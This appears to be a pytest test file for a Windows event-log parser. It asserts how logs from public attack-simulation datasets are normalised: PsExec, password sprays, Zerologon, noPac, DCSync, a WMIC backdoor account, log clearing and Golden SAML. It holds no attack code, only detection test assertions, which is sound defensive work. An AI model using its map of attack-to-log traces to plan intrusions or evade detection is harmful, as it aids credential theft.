    assert (install.object, install.user, install.dst_host) == (
        "PSEXESVC",
        "wardog",
        "workstation5",
    )
    assert install.time == utc("2020-10-19T03:30:46.420")  # TimeCreated as written (local)
    [psexec] = [e for e in events_of(lsa, event_id="sysmon:1") if e.object.endswith("PsExec.exe")]
    assert psexec.time == utc("2020-10-19T07:30:46.251")  # Sysmon UtcTime: the real UTC
    assert {e.event_id for e in events_of(lsa, action=Action.LOG_CLEARED)} == {"1102", "104"}


def test_purplesharp_password_spray() -> None:
    playbook = SD + "lateral_movement/host/purplesharp_ad_playbook_I.zip"
    failed = events_of(playbook, action=Action.LOGON_FAILED, dst_host="workstation5")
    assert len(failed) == 7 and {e.logon_type for e in failed} == {"2"}
    ntlm = events_of(playbook, event_id="4776", outcome=Outcome.FAILURE, dst_host="mordordc")
    assert len(ntlm) == 7 and {e.reason for e in ntlm} == {"0xc000006a"}
    assert {e.user for e in failed} == {e.user for e in ntlm}
    assert {e.src_host for e in ntlm} == {"workstation5"}


def test_wmic_backdoor_account_lifecycle() -> None:
    wmic = SD + "lateral_movement/host/empire_wmic_add_user_backdoor.zip"
    changes = events_of(wmic, action=Action.ACCOUNT_CHANGE, user="pgustavo")
    assert {e.object for e in changes} == {"created", "password_reset", "deleted"}
    assert {e.dst_host for e in changes} == {"workstation6"}
    groups = events_of(wmic, action=Action.GROUP_CHANGE, user="pgustavo")
    assert sorted(e.reason for e in groups) == ["added", "removed"]


def test_zerologon_machine_account_reset_by_anonymous() -> None:
    helk = (
        SD
        + "lateral_movement/host/mimikatz_CVE-2020-1472_Unauthenticated_NetrServerAuthenticate2.zip"
    )
    [change] = events_of(helk, event_id="4742")
    assert (change.user, change.device, change.dst_host) == (
        "anonymous logon",
        "mordordc",
        "mordordc",
    )
    evtx_file = (
        EV + "credential_access/"
        "Zerologon_VoidSec_CVE-2020-1472_4626_LT3_Anonym_follwedby_4742_DC_Anony_DC.evtx"
    )
    [change] = events_of(evtx_file, event_id="4742")
    assert (change.user, change.device) == ("anonymous logon", "01566s-win16-ir")


def test_evtx_service_installs() -> None:
    installs = events_of(EV + "lateral_movement/LM_Remote_Service02_7045.evtx")
    assert {e.object: e.app for e in installs} == {
        "spoolfool": "cmd.exe",
        "spoolsv": "cmd.exe",
        "remotesvc": "calc.exe",
    }
    assert {(e.action, e.target_user, e.dst_host) for e in installs} == {
        (Action.REMOTE_EXEC, "localsystem", "win-77ltaphiq1r")
    }
    [pipe] = events_of(EV + "privilege_escalation/System_7045_namedpipe_privesc.evtx")
    assert pipe.action is Action.REMOTE_EXEC and "pipe" in pipe.app.lower()


def test_evtx_guest_and_network_service_added_to_administrators() -> None:
    added = events_of(EV + "persistence/Network_Service_Guest_added_to_admins_4732.evtx")
    assert len(added) == 2
    assert all(
        (e.action, e.object, e.privileged, e.reason, e.user)
        == (Action.GROUP_CHANGE, "Administrators", True, "added", "ieuser")
        for e in added
    )
    assert {e.target_user for e in added} == {
        "network service",
        "s-1-5-21-3461203602-4096304019-2269080069-501",
    }


def test_evtx_kerberos_spray_and_log_cleared() -> None:
    spray = EV + "credential_access/kerberos_pwd_spray_4771.evtx"
    preauth = events_of(spray, event_id="4771")
    assert {(e.user, e.reason, e.outcome) for e in preauth} == {
        ("administrator", "0x18", Outcome.FAILURE),
        ("backdoor", "0x18", Outcome.FAILURE),
    }
    unknown = events_of(spray, event_id="4768", outcome=Outcome.FAILURE)
    assert len(unknown) == 7 and {e.reason for e in unknown} == {"0x6"}
    assert {e.src_ip for e in preauth + unknown} == {"172.16.66.1"}
    [cleared] = events_of(EV + "defense_evasion/DE_1102_security_log_cleared.evtx")
    assert (cleared.action, cleared.user, cleared.dst_host) == (
        Action.LOG_CLEARED,
        "user01",
        "pc01",
    )


def test_evtx_nopac_rename_and_dcsync() -> None:
    nopac = (
        EV + "privilege_escalation/"
        "samaccount_spoofing_CVE-2021-42287_CVE-2021-42278_DC_securitylogs.evtx"
    )
    renames = events_of(nopac, object="renamed")
    assert [(e.target_user, e.device, e.reason) for e in renames] == [
        ("01566s-win16-ir", "", "dc012$"),
        ("dc012", "", "01566s-win16-ir"),  # renamed back to "DC012", without the "$"
    ]
    # 4742 is about a computer object whatever its name: a host, never a user.
    assert {e.device for e in events_of(nopac, event_id="4742")} == {"dc012", "01566s-win16-ir"}
    # The spoofed TGT request names a "user" that is the DC's host name.
    assert events_of(nopac, action=Action.AUTH_TICKET, user="01566s-win16-ir")
    dcsync = events_of(EV + "credential_access/CA_DCSync_4662.evtx")
    assert {e.object for e in dcsync} == {
        "DS-Replication-Get-Changes",
        "DS-Replication-Get-Changes-All",
    }
    assert {(e.user, e.privileged) for e in dcsync} == {("administrator", True)}


def test_sentinel_security_events_of_the_golden_saml_scenario() -> None:
    path = DATA / "security-datasets/compound/GoldenSAMLADFSMailAccess/WindowsEvents.Zip"
    if not path.exists():
        pytest.skip(NO_DATA)
    records = list(helk_records(path))
    assert all(HELK.sniff(record) for record in records)
    events = [event for record in records for event in HELK.parse(record, CTX)]
    # 28 x 4624 (DC01, ADFS01) and 5 x 4662 (DC01); AD FS 412/501 and the rest are skipped.
    assert sorted({(e.action, e.event_id) for e in events}) == [
        (Action.LOGON, "4624"),
        (Action.POLICY_CHANGE, "4662"),
    ]
    assert len(events) == 33 and {e.dst_host for e in events} == {"dc01", "adfs01"}
    assert {e.dst_host for e in events if e.event_id == "4662"} == {"dc01"}
    assert {e.user for e in events} >= {"wardog", "pgustavo", "adfsadmin", "cjones"}
    assert len({e.record_id for e in events}) == 33
